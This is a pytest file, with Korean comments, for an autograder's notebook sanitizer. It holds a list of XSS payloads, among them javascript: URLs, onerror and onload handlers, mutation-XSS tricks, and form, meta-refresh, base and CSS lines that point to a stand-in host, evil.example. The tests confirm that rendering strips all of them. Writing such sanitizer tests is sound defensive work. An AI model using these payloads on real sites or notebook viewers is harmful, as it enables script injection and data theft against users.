"""`autograded/`에 적는 글과 출력에서 움직이는 것이 빠지고, 읽을 것은 그대로 남는지 본다."""

import base64
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat import v4

from warmgrade.gradebook.harmless import LONGEST_HTML, Harmless, plain

ACTIVE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/t.png)",
    "![x][1]\n\n[1]: https://evil.example/t.png",
    "<iframe src='data:text/html,<script>1</script>'></iframe>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='https://evil.example/'><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<div style='position:fixed;background:url(https://evil.example/x)'>x</div>",
    "$\\href{javascript:alert(1)}{x}$",
    "<style>@import 'https://evil.example/';</style>",
    "<object data=x></object><embed src=x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<details open ontoggle=alert(1)>",
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- --><img src=x onerror=alert(1)>",
    "<?php ?><img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
]


def shown(cell) -> BeautifulSoup:
    """stock nbconvert가 보여 주는 쪽의 본문. formgrader도 같은 것을 쓴다."""
    notebook = v4.new_notebook(cells=[cell])
    notebook, _ = Harmless().preprocess(notebook, {})
    body, _ = HTMLExporter(template_name="basic").from_notebook_node(notebook)
    return BeautifulSoup(body, "html.parser")


def assert_still(page: BeautifulSoup) -> None:
    for name in ("script", "iframe", "object", "embed", "form", "meta", "base", "svg", "math"):
        assert not page.select(name), name
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            text = "".join(value).strip().casefold()
            assert not name.startswith("on"), (tag.name, name)
            if name == "src":
                assert text.startswith("data:image/") or "evil.example" not in text, text
                assert urlsplit(text).scheme in ("", "data"), text
            if name == "href":
                # 누르는 것은 사람이 정한다.
                assert urlsplit(text).scheme in ("", "http", "https", "mailto"), text
            assert name != "style" or "url" not in text, text


@pytest.mark.parametrize("text", ACTIVE)
def test_nothing_in_a_text_moves(text):
    assert_still(shown(v4.new_markdown_cell(f"글\n\n{text}\n\n끝")))


@pytest.mark.parametrize("kind", ["text/html", "text/markdown", "text/latex"])
@pytest.mark.parametrize("text", ACTIVE)
def test_nothing_in_an_output_moves(kind, text):
    output = v4.new_output("display_data", {kind: text})
    assert_still(shown(v4.new_code_cell("1", outputs=[output])))


@pytest.mark.parametrize(
    ("data", "metadata"),
    [
        ({"application/javascript": "alert(1)"}, {}),
        ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"}, {}),
        ({"image/png": '"><script>alert(1)</script>'}, {}),
        ({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": "1 onload=alert(1)"}}),
        ({"text/html": "<b>x</b>"}, {"text/html": {"isolated": True}}),
    ],
)
def test_nothing_in_a_picture_moves(data, metadata):
    output = v4.new_output("display_data", data, metadata=metadata)
    assert_still(shown(v4.new_code_cell("1", outputs=[output])))


def test_what_an_honest_student_writes_reads_the_same():
    text = (
        "## 답\n\n**굵게**, `a < b`, $x < y$, $\\frac{1}{2}$, 줄<br>바꿈, a<b이고 c>d이다.\n\n"
        "![사진](attachment:사진.png) [글](https://ok.example) <https://ok.example> x &lt; y\n"
    )
    cell = v4.new_markdown_cell(text)
    cell.attachments = {"사진.png": {"image/png": base64.b64encode(b"png").decode()}}
    page = shown(cell)
    assert_still(page)
    assert page.find("strong").get_text() == "굵게"
    assert page.find("code").get_text() == "a < b"
    assert page.find("img")["src"].startswith("data:image/png;base64,")
    assert len(page.select("a[href='https://ok.example']")) == 2
    assert "x < y" in page.get_text() and "\\frac{1}{2}" in page.get_text()
    assert plain("평범한 글 $a_1$") == "평범한 글 $a_1$"


def test_a_picture_that_is_not_there_does_not_cost_the_page():
    page = shown(v4.new_markdown_cell("![사진](attachment:없음.png) 끝"))
    assert "끝" in page.get_text() and page.find("img")["alt"] == "사진"


def test_a_text_of_the_instructor_is_left_alone():
    step = Harmless()
    step.given = frozenset({"<div class='alert'>주의</div>"})
    cells = [v4.new_markdown_cell(text) for text in (*step.given, "<div class='alert'>답</div>")]
    notebook, _ = step.preprocess(v4.new_notebook(cells=cells), {})
    assert notebook.cells[0].source in step.given
    assert notebook.cells[1].source == "<\u200bdiv class='alert'>답<\u200b/div>"


def test_a_table_of_numbers_keeps_its_shape_and_a_huge_one_says_that_it_was_left_out():
    table = "<table><tr><td>1</td></tr></table>"
    huge = "<p>" * LONGEST_HTML
    outputs = [v4.new_output("display_data", {"text/html": html}) for html in (table, huge)]
    page = shown(v4.new_code_cell("1", outputs=outputs))
    assert page.select_one("table td").get_text() == "1"
    assert "긴 HTML 출력이어서 뺐습니다." in page.get_text()
